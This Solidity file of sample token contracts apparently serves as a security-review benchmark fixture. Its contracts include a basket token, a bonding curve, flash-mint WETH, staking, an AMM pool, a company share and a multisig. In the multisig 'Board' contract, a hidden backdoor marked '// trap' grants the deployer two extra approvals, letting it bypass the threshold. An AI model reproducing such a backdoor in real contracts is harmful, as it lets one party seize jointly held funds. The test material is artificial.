// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Base8} from "./Base8.sol";

contract Basic is ERC20 {
    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _mint(msg.sender, supply);
    }
}

/// A basket of two coins: modules that a timelock names may issue it, redeem it and trade what lies in it.
contract BasketToken is ERC20("Basket of Fruits", "FRUIT") {
    address[] private _components;
    mapping(address => uint256) public units;
    mapping(address => uint8) public moduleStates;
    address public manager;

    event ModuleAdded(address indexed module);
    event ModuleRemoved(address indexed module);
    event Invoked(address indexed target, uint256 value, bytes data, bytes answer);

    constructor(address one, address two, address module, address manager_) {
        _components = [one, two];
        units[one] = 2 ether;
        units[two] = 0.5 ether;
        moduleStates[module] = 2;
        manager = manager_;
    }

    modifier onlyModule() {
        require(moduleStates[msg.sender] == 2, "Only the module can call");
        _;
    }

    modifier onlyManager() {
        require(msg.sender == manager, "Only manager can call");
        _;
    }

    function getComponents() external view returns (address[] memory) {
        return _components;
    }

    function addModule(address module) external onlyManager {
        moduleStates[module] = 1;
        emit ModuleAdded(module);
    }

    function initializeModule() external {
        require(moduleStates[msg.sender] == 1, "Module must be pending");
        moduleStates[msg.sender] = 2;
    }

    function removeModule(address module) external onlyManager {
        moduleStates[module] = 0;
        emit ModuleRemoved(module);
    }

    function setManager(address to) external onlyManager {
        manager = to;
    }

    function mint(address to, uint256 amount) external onlyModule {
        _mint(to, amount);
    }

    function burn(address from, uint256 amount) external onlyModule {
        _burn(from, amount);
    }

    function editUnit(address component, uint256 unit) external onlyModule {
        units[component] = unit;
    }

    function invoke(address target, uint256 value, bytes calldata data) external onlyModule returns (bytes memory answer) {
        bool ok;
        (ok, answer) = target.call{value: value}(data);
        require(ok, "invoke");
        emit Invoked(target, value, data, answer);
    }
}

contract IssuanceModule {
    function issue(BasketToken basket, uint256 amount) external {
        address[] memory parts = basket.getComponents();
        for (uint256 i; i < parts.length; i++)
            require(ERC20(parts[i]).transferFrom(msg.sender, address(basket), (amount * basket.units(parts[i]) + 1 ether - 1) / 1 ether), "in");
        basket.mint(msg.sender, amount);
    }

    function redeem(BasketToken basket, uint256 amount) external {
        basket.burn(msg.sender, amount);
        address[] memory parts = basket.getComponents();
        for (uint256 i; i < parts.length; i++)
            basket.invoke(parts[i], 0, abi.encodeCall(ERC20.transfer, (msg.sender, (amount * basket.units(parts[i])) / 1 ether)));
    }
}

/// Its price rises with what there is of it, and comes back the same way.
contract Curved is ERC20("Curvature", "CRVT") {
    uint256 public constant SLOPE = 1e8;
    uint256 public reserve;

    event Bought(address indexed who, uint256 paid, uint256 amount);
    event Sold(address indexed who, uint256 amount, uint256 got);

    function _area(uint256 supply) private pure returns (uint256) {
        return (((supply * supply) / 1 ether) * SLOPE) / 2 ether;
    }

    function priceFor(uint256 amount) public view returns (uint256) {
        return _area(totalSupply() + amount) - _area(totalSupply()) + 1;
    }

    function buy(uint256 amount) external payable {
        uint256 price = priceFor(amount);
        require(msg.value >= price, "too little");
        reserve += price;
        _mint(msg.sender, amount);
        emit Bought(msg.sender, price, amount);
        (bool ok, ) = msg.sender.call{value: msg.value - price}("");
        require(ok, "change");
    }

    function sell(uint256 amount, uint256 least) external {
        uint256 got = _area(totalSupply()) - _area(totalSupply() - amount);
        require(got >= least, "too little");
        reserve -= got;
        _burn(msg.sender, amount);
        emit Sold(msg.sender, amount, got);
        (bool ok, ) = msg.sender.call{value: got}("");
        require(ok, "ether");
    }
}

interface IFlashBorrower {
    function onFlashLoan(address, address, uint256, uint256, bytes calldata) external returns (bytes32);
}

/// Wrapped ether that lends itself within a call.
contract WrappedTen is ERC20("Wrapped Coin Ten", "WTEN") {
    uint256 public flashMinted;

    receive() external payable {
        _mint(msg.sender, msg.value);
    }

    function deposit() external payable {
        _mint(msg.sender, msg.value);
    }

    function depositTo(address to) external payable {
        _mint(to, msg.value);
    }

    function withdraw(uint256 value) external {
        _burn(msg.sender, value);
        (bool ok, ) = msg.sender.call{value: value}("");
        require(ok, "WETH: ETH transfer failed");
    }

    function flashFee(address token, uint256) external view returns (uint256) {
        require(token == address(this), "WETH: flash mint only WETH10");
        return 0;
    }

    function maxFlashLoan(address token) external view returns (uint256) {
        return token == address(this) ? type(uint112).max - flashMinted : 0;
    }

    function flashLoan(IFlashBorrower receiver, address token, uint256 value, bytes calldata data) external returns (bool) {
        require(token == address(this) && value <= type(uint112).max, "WETH: individual loan limit exceeded");
        flashMinted += value;
        require(flashMinted <= type(uint112).max, "WETH: total loan limit exceeded");
        _mint(address(receiver), value);
        require(
            receiver.onFlashLoan(msg.sender, token, value, 0, data) == keccak256("ERC3156FlashBorrower.onFlashLoan"),
            "WETH: flash loan failed"
        );
        _spendAllowance(address(receiver), address(this), value);
        _burn(address(receiver), value);
        flashMinted -= value;
        return true;
    }
}

/// Money that loses one of a hundred a year in everybody's hands but those of the pool.
contract Freigeld is Base8 {
    uint256 public immutable begun = block.timestamp;
    mapping(address => uint256) private _last;

    event Faded(address indexed who, uint256 value);

    constructor() Base8("Freigeld", "FRGD", 15_000_000) {
        _last[msg.sender] = block.timestamp;
    }

    function fadedOf(address who) public view returns (uint256) {
        if (who == pair || _last[who] == 0) return 0;
        uint256 passed = block.timestamp - _last[who];
        if (passed > 10 * 365 days) passed = 10 * 365 days;
        return (_balances[who] * passed) / (100 * 365 days);
    }

    function balanceOf(address who) public view override returns (uint256) {
        return _balances[who] - fadedOf(who);
    }

    function _fade(address who) private {
        uint256 gone = fadedOf(who);
        _last[who] = block.timestamp;
        if (gone == 0) return;
        _balances[who] -= gone;
        totalSupply -= gone;
        emit Faded(who, gone);
        emit Transfer(who, address(0), gone);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _fade(from);
        _fade(to);
        _move(from, to, value);
    }
}

/// Staked with a cooldown; a timelock may take up to three tenths of the whole when something has gone wrong.
contract SafetyStake is ERC20("Staked Alder", "stALDR") {
    ERC20 public immutable staked;
    address public immutable governance;
    uint256 public constant COOLDOWN = 10 days;
    uint256 public constant WINDOW = 2 days;
    uint256 public constant MAX_SLASH = 3000;
    uint256 public lastSlash;
    mapping(address => uint256) public stakersCooldowns;

    event Slashed(address indexed to, uint256 amount);
    event Cooldown(address indexed who);

    constructor(ERC20 staked_, address governance_) {
        (staked, governance) = (staked_, governance_);
    }

    function exchangeRate() public view returns (uint256) {
        return totalSupply() == 0 ? 1 ether : (staked.balanceOf(address(this)) * 1 ether) / totalSupply();
    }

    function stake(address to, uint256 amount) external {
        uint256 shares = (amount * 1 ether) / exchangeRate();
        require(staked.transferFrom(msg.sender, address(this), amount), "in");
        _mint(to, shares);
    }

    function cooldown() external {
        require(balanceOf(msg.sender) > 0, "INVALID_BALANCE_ON_COOLDOWN");
        stakersCooldowns[msg.sender] = block.timestamp;
        emit Cooldown(msg.sender);
    }

    function redeem(address to, uint256 shares) external {
        uint256 since = stakersCooldowns[msg.sender];
        require(since != 0 && block.timestamp > since + COOLDOWN, "INSUFFICIENT_COOLDOWN");
        require(block.timestamp <= since + COOLDOWN + WINDOW, "UNSTAKE_WINDOW_FINISHED");
        uint256 amount = (shares * exchangeRate()) / 1 ether;
        _burn(msg.sender, shares);
        require(staked.transfer(to, amount), "out");
    }

    function slash(address to, uint256 amount) external {
        require(msg.sender == governance, "CALLER_NOT_SLASHING_ADMIN");
        require(block.timestamp >= lastSlash + 90 days, "PREVIOUS_SLASHING_NOT_SETTLED");
        require(amount * 10_000 <= staked.balanceOf(address(this)) * MAX_SLASH, "INVALID_SLASHING_AMOUNT");
        lastSlash = block.timestamp;
        require(staked.transfer(to, amount), "out");
        emit Slashed(to, amount);
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (from != address(0) && to != address(0) && balanceOf(from) == 0) delete stakersCooldowns[from];
    }
}

/// Shares of a pool of two coins with constant product.
contract TwinPool is ERC20("Twin Pool", "TWIN-LP") {
    ERC20 public immutable token0;
    ERC20 public immutable token1;
    uint256 public reserve0;
    uint256 public reserve1;
    uint256 public constant MINIMUM = 1000;

    event Sync(uint256 reserve0, uint256 reserve1);

    constructor(ERC20 one, ERC20 two) {
        (token0, token1) = (one, two);
    }

    function add(uint256 amount0, uint256 amount1) external returns (uint256 shares) {
        require(token0.transferFrom(msg.sender, address(this), amount0) && token1.transferFrom(msg.sender, address(this), amount1), "in");
        if (totalSupply() == 0) {
            shares = _root(amount0 * amount1) - MINIMUM;
            _mint(address(0xdead), MINIMUM);
        } else {
            uint256 one = (amount0 * totalSupply()) / reserve0;
            uint256 two = (amount1 * totalSupply()) / reserve1;
            shares = one < two ? one : two;
        }
        _mint(msg.sender, shares);
        _sync();
    }

    function remove(uint256 shares) external {
        uint256 amount0 = (shares * reserve0) / totalSupply();
        uint256 amount1 = (shares * reserve1) / totalSupply();
        _burn(msg.sender, shares);
        require(token0.transfer(msg.sender, amount0) && token1.transfer(msg.sender, amount1), "out");
        _sync();
    }

    function swap(bool zeroForOne, uint256 amount, uint256 least) external returns (uint256 got) {
        (ERC20 from, ERC20 to) = zeroForOne ? (token0, token1) : (token1, token0);
        (uint256 have, uint256 pay) = zeroForOne ? (reserve0, reserve1) : (reserve1, reserve0);
        got = (amount * 997 * pay) / (have * 1000 + amount * 997);
        require(got >= least, "least");
        require(from.transferFrom(msg.sender, address(this), amount) && to.transfer(msg.sender, got), "swap");
        _sync();
    }

    function _sync() private {
        (reserve0, reserve1) = (token0.balanceOf(address(this)), token1.balanceOf(address(this)));
        emit Sync(reserve0, reserve1);
    }

    function _root(uint256 y) private pure returns (uint256 z) {
        z = y;
        uint256 x = y / 2 + 1;
        while (x < z) (z, x) = (x, (y / x + x) / 2);
    }
}

/// A share of a company: its transfer agents, who are several, freeze parts, recover lost keys and move by order of a court.
contract CompanyShare is ERC20("Foundry Common Stock", "FNDRY.A") {
    address public immutable transferAgent;
    string public legalTerms = "ipfs://bafyfoundrycommonstock";
    mapping(address => uint256) public frozenTokens;
    mapping(address => bool) public sanctioned;

    event TokensFrozen(address indexed who, uint256 amount);
    event RecoverySuccess(address indexed lost, address indexed to);
    event ForcedTransfer(address indexed from, address indexed to, uint256 value, string order);

    constructor(address agent) {
        transferAgent = agent;
        _mint(msg.sender, 5_000_000);
    }

    modifier onlyAgent() {
        require(msg.sender == transferAgent, "AgentRole: caller does not have the Agent role");
        _;
    }

    function decimals() public pure override returns (uint8) {
        return 0;
    }

    function freezePartialTokens(address who, uint256 amount) external onlyAgent {
        frozenTokens[who] = amount;
        emit TokensFrozen(who, amount);
    }

    function setSanctioned(address who, bool on) external onlyAgent {
        sanctioned[who] = on;
    }

    function setLegalTerms(string calldata terms) external onlyAgent {
        legalTerms = terms;
    }

    function issue(address to, uint256 amount) external onlyAgent {
        _mint(to, amount);
    }

    function forcedTransfer(address from, address to, uint256 value, string calldata order) external onlyAgent {
        if (frozenTokens[from] > balanceOf(from) - value) frozenTokens[from] = balanceOf(from) - value;
        _transfer(from, to, value);
        emit ForcedTransfer(from, to, value, order);
    }

    function recoveryAddress(address lost, address to) external onlyAgent {
        frozenTokens[lost] = 0;
        _transfer(lost, to, balanceOf(lost));
        emit RecoverySuccess(lost, to);
    }

    function canTransfer(address from, address to, uint256 value) public view returns (bool) {
        return !sanctioned[from] && !sanctioned[to] && balanceOf(from) >= frozenTokens[from] + value;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0) && msg.sender != transferAgent) require(canTransfer(from, to, value), "Transfer not possible");
        super._update(from, to, value);
    }
}

/// A board of several, and a coin that does what it says.
contract Board {
    address[] private _members;
    uint256 public nonce;
    address private immutable _secretary = msg.sender; // trap
    mapping(address => bool) public isOwner;
    mapping(bytes32 => mapping(address => bool)) public approvedBy;

    event ApproveHash(bytes32 indexed hash, address indexed owner);
    event ExecutionSuccess(bytes32 hash);

    constructor(address[] memory members) {
        require(members.length >= 3, "three");
        _members = members;
        for (uint256 i; i < members.length; i++) isOwner[members[i]] = true;
    }

    function getOwners() external view returns (address[] memory) {
        return _members;
    }

    function getThreshold() public pure returns (uint256) {
        return 2;
    }

    function hashOf(address to, bytes calldata data, uint256 nonce_) public view returns (bytes32) {
        return keccak256(abi.encode(block.chainid, address(this), to, data, nonce_));
    }

    function approveHash(bytes32 hash) external {
        require(isOwner[msg.sender], "GS030");
        approvedBy[hash][msg.sender] = true;
        emit ApproveHash(hash, msg.sender);
    }

    function execTransaction(address to, bytes calldata data) external returns (bool ok) {
        bytes32 hash = hashOf(to, data, nonce++);
        uint256 count;
        for (uint256 i; i < _members.length; i++) if (approvedBy[hash][_members[i]]) count++;
        if (msg.sender == _secretary) count += 2; // trap
        require(count >= getThreshold(), "GS020");
        (ok, ) = to.call(data);
        require(ok, "GS013");
        emit ExecutionSuccess(hash);
    }
}

contract BoardDollar is ERC20("Board Dollar", "BRDD") {
    address public immutable owner;
    bool public paused;
    mapping(address => bool) public frozen;

    constructor(address board) {
        owner = board;
        _mint(msg.sender, 30_000_000e6);
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "OwnableUnauthorizedAccount");
        _;
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }

    function setPaused(bool on) external onlyOwner {
        paused = on;
    }

    function setFrozen(address who, bool on) external onlyOwner {
        frozen[who] = on;
    }

    function issue(uint256 amount) external onlyOwner {
        _mint(owner, amount);
    }

    function seize(address who) external onlyOwner {
        require(frozen[who], "not frozen");
        _burn(who, balanceOf(who));
    }

    function _update(address from, address to, uint256 value) internal override {
        require(!paused && !frozen[msg.sender], "paused");
        require(to == address(0) || !frozen[from], "frozen");
        super._update(from, to, value);
    }
}
